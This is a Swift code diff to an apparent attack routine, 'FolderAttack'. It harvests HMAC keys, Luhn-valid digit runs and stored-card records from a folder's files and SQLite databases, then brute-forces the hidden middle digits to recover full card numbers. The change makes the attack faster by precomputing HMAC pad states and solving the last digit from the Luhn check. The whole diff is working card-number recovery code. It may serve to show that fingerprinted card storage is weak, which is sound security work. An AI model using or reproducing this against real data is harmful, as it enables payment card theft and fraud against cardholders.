@@ -66,8 +66,31 @@ struct FolderAttack {
         let fingerprint: String
     }
 
+    /// HMAC-SHA256 under one key, its padded-key blocks hashed once for all candidates.
+    struct KeyedHash {
+        let inner: SHA256
+        let outer: SHA256
+
+        init(key: [UInt8]) {
+            let block = key + [UInt8](repeating: 0, count: 64 - key.count)
+            var inner = SHA256(), outer = SHA256()
+            inner.update(data: block.map { $0 ^ 0x36 })
+            outer.update(data: block.map { $0 ^ 0x5c })
+            self.inner = inner
+            self.outer = outer
+        }
+
+        func matches(_ message: [UInt8], _ target: [UInt8]) -> Bool {
+            var first = inner
+            first.update(data: message)
+            var second = outer
+            second.update(data: Array(first.finalize()))
+            return second.finalize().elementsEqual(target)
+        }
+    }
+
     let files: [(path: String, bytes: [UInt8])]
-    private(set) var secrets: [SymmetricKey] = []
+    private(set) var secrets: [KeyedHash] = []
     private(set) var cards: Set<StoredCard> = []
     private(set) var recovered: [String] = []
     private(set) var luhnRuns: [String] = []
@@ -92,7 +115,7 @@ struct FolderAttack {
         }
         for file in files {
             let text = String(decoding: file.bytes, as: UTF8.self).trimmingCharacters(in: .whitespacesAndNewlines)
-            if text.count == 64, let bytes = hexBytes(text) { secrets.append(SymmetricKey(data: bytes)) }
+            if text.count == 64, let bytes = hexBytes(text) { secrets.append(KeyedHash(key: bytes)) }
             luhnRuns += Self.digitRuns(file.bytes).filter(Self.passesLuhn)
         }
         for file in files where file.bytes.starts(with: Array("SQLite format 3\0".utf8)) {
@@ -126,37 +149,48 @@ struct FolderAttack {
     }
 
     /// The card number behind `card`, if any secret found makes a candidate's HMAC match.
+    /// The last unknown digit is solved from the Luhn check: 10^5 candidates (Amex 10^4).
     private mutating func search(_ card: StoredCard) -> String? {
         guard !secrets.isEmpty, let target = hexBytes(card.fingerprint) else { return nil }
         let length = card.brand == "amex" ? 15 : 16
         let unknown = length - 10
+        let solved = 6 + unknown - 1
+        let solvedIsDoubled = (length - 1 - solved) % 2 == 1
+        // The digit whose Luhn contribution is n, for a doubled place.
+        let undouble: [UInt8] = [0, 5, 1, 6, 2, 7, 3, 8, 4, 9]
         var digits = Array((card.first6 + String(repeating: "0", count: unknown) + card.last4).utf8)
         var limit = 1
-        for _ in 0..<unknown { limit *= 10 }
+        for _ in 1..<unknown { limit *= 10 }
         for middle in 0..<limit {
             var rest = middle
-            for position in stride(from: 6 + unknown - 1, through: 6, by: -1) {
+            for position in stride(from: solved - 1, through: 6, by: -1) {
                 digits[position] = UInt8(0x30 + rest % 10)
                 rest /= 10
             }
-            guard Self.passesLuhn(digits) else { continue }
+            digits[solved] = 0x30
+            let need = (10 - Self.luhnSum(digits) % 10) % 10
+            digits[solved] = 0x30 + (solvedIsDoubled ? undouble[need] : UInt8(need))
             candidatesTried += 1
-            for secret in secrets where Array(HMAC<SHA256>.authenticationCode(for: digits, using: secret)) == target {
+            for secret in secrets where secret.matches(digits, target) {
                 return String(decoding: digits, as: UTF8.self)
             }
         }
         return nil
     }
 
-    static func passesLuhn(_ text: String) -> Bool { passesLuhn(Array(text.utf8)) }
+    static func passesLuhn(_ text: String) -> Bool { luhnSum(Array(text.utf8)).isMultiple(of: 10) }
 
-    static func passesLuhn(_ digits: [UInt8]) -> Bool {
+    static func luhnSum(_ digits: [UInt8]) -> Int {
         var sum = 0
-        for (offset, digit) in digits.reversed().enumerated() {
-            let value = Int(digit) - 0x30
-            sum += offset.isMultiple(of: 2) ? value : (value * 2 > 9 ? value * 2 - 9 : value * 2)
+        var doubled = false
+        var index = digits.count - 1
+        while index >= 0 {
+            let value = Int(digits[index]) - 0x30
+            sum += doubled ? (value > 4 ? value * 2 - 9 : value * 2) : value
+            doubled.toggle()
+            index -= 1
         }
-        return sum.isMultiple(of: 10)
+        return sum
     }
 
     /// Every run of 12 to 19 ASCII digits (a longer run is not a card number).
